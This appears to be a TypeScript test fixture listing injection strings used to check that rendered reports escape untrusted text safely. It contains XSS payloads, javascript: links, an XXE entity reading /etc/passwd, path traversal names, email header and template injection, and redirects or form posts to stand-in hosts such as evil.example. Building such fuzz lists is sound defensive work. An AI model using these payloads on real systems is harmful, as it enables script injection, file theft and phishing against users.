// Pieces of text through which a report may try to become more than text: the one list for everything that shows what a report says.

const HTML = [
  '<script>alert(1)</script>', '<img src=x onerror=alert(1)>', '"><script>alert(1)</script>', "' onmouseover='alert(1)", '" autofocus onfocus="alert(1)', '"><img src=x onerror=alert(1)>', '</svg><script>alert(1)</script>', '<!--><script>alert(1)</script>-->',
  '</title><script>alert(1)</script>', '</style><script>alert(1)</script>', '</main><base href="https://evil.example/">', ']]></style><svg onload=alert(1)>', '</svg></text></title>', '&lt;script&gt;', '&#60;script&#62;', '&#x3c;script&#x3e;', '<scr\u0000ipt>alert(1)</script>', '<ScRiPt/src=//evil.example/x>',
  '<iframe src="https://evil.example"></iframe>', '<iframe srcdoc="<script>alert(1)</script>">', '<meta http-equiv="refresh" content="0;url=https://evil.example">', '<base href="https://evil.example/">', '<style>@import "https://evil.example"</style>', '<svg><script>alert(1)</script></svg>', '<svg/onload=alert(1)>', '<math href="javascript:alert(1)">',
  '<form action="https://evil.example"><input></form>', '<object data="https://evil.example"></object>', '<embed src="https://evil.example">', '<link rel="stylesheet" href="https://evil.example">', '<video poster="https://tracker.example/p.png">', '<a href="javascript:alert(1)">x</a>', '<details open ontoggle=alert(1)>', '<template><script>alert(1)</script></template>',
  '<!--', '-->', '<?xml version="1.0"?>', '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>', '&e;', 'url(https://tracker.example/x)',
];

const LINKS = [
  '[x](javascript:alert(1))', '[x](JaVaScRiPt:alert(1))', '[x](java&#115;cript:alert(1))', '[x](java%73cript:alert(1))', '[x](\u0001javascript:alert(1))', '[x](java\tscript:alert(1))', '<javascript:alert(1)>', '[x](vbscript:x)', '[x](command:workbench.action.quit)', '[x](vscode://file/etc/passwd)', '[x](vscode-insiders:extension/x)',
  '[x](data:text/html,<script>alert(1)</script>)', '[x](data:text/html,x)', '[x](file:///etc/passwd)', '[x](//evil.example/x)', '[x](\\\\host\\share)', '[x](/\\evil.example/x)', '[x](blob:https://a.example/x)', '[x][r]\n\n[r]: javascript:alert(1)', '[a]: javascript:alert(1)\n\n[a]',
  '[x](https://a.example/"onclick="alert(1))', '[x](https://a.example/|h1.x])', '[x](https://a.example/>|x)', '[x](#"onclick="x)', '[x](../../../etc/passwd)', '[x](https://a.example "\\" onclick=\\"alert(1)")', '[](https://evil.example)',
  'https://a.example/"><script>alert(1)</script>', 'https://a.example/]{code}', 'https://a.example/[x]y!z!', 'https://a.example/a|b>c', 'mailto:x@a.example?bcc=all@victim.example', 'javascript:alert(1)',
];

const IMAGES = [
  '![track](https://tracker.example/pixel.png)', '![x](http://tracker.example/p.png)', '![x](//tracker.example/p.png)', '![x](data:image/svg+xml;base64,PHN2Zz4=)', '![x](file:///etc/passwd.png)', '![x](../../x.png)', '![x](%2e%2e/x.png)', '![x](..%2fx.png)', '![x](\\\\host\\x.png)', '![x](a.png"onerror="alert(1).png)', '![" onerror="alert(1)](a.png)', '[![x](https://tracker.example/p.png)](javascript:alert(1))',
  '| a | <img src=x onerror=alert(1)> |\n|---|---|\n| b | c |',
];

const MACROS = [
  ']]><script>alert(1)</script>', ']]></ac:plain-text-body></ac:structured-macro><ac:structured-macro ac:name="html">', '<ac:structured-macro ac:name="include"/>', '<ri:attachment ri:filename="x"/>', '&#123;code&#125;',
  '{html}<b>x</b>{html}', '{code:title=x|y}', '{color:red}x{color}', '{include:x}', '!https://tracker.example/p.png!', '[~accountid:1]', '[^secret.pdf]', 'h1. x', 'bq. x', '||x||', '----', '\\\\', '{{x}}', '(x) :)',
  '<!channel>', '<!everyone|x>', '<!here>', '<@U012345>', '<#C012345>', '@channel', '@here', '<https://evil.example|bank>', '*x* _y_ ~z~ `q`', '```',
  '[[x]]', '{{title}}', '${7*7}', '{{constructor.constructor("alert(1)")()}}', '=HYPERLINK("https://evil.example")', '@SUM(1)', '$(command:workbench.action.quit)', '$(zap)',
];

const CHARACTERS = [
  'x&#13;&#10;Bcc: all@victim.example', 'x\r\nBcc: all@victim.example', 'x\r\n\r\nbody', 'x\u2028Bcc: y', 'x\u0085Bcc: y', '=?utf-8?Q?x?=', '=0D=0ABcc: x', '--=_rca_alternative', '.',
  '\u0000\u0007\u001B[31m', '\u0000\u0008\uFFFE\uD800', '\uD800', '\uDC00\uD800', '\uFFFE', '\u202Etxt.exe', '\u202Eevil\u2066', 'a\tb', '\u200B\u200D\uFEFF', '👩‍👩‍👧‍👦 הזמנות נכשלו 注文が失敗', 'e\u0301'.repeat(20),
];

const NAMES = ['../../../etc/passwd', '..', '.', 'con', 'nul.html', 'a/b\\c', 'index', 'index.html', '__proto__', 'constructor', 'toString', 'content', 'rca-timeline', ' ', '-', '#', '%2e%2e', 'a'.repeat(300)];

export const payloads: readonly string[] = [...HTML, ...LINKS, ...IMAGES, ...MACROS, ...CHARACTERS, ...NAMES];
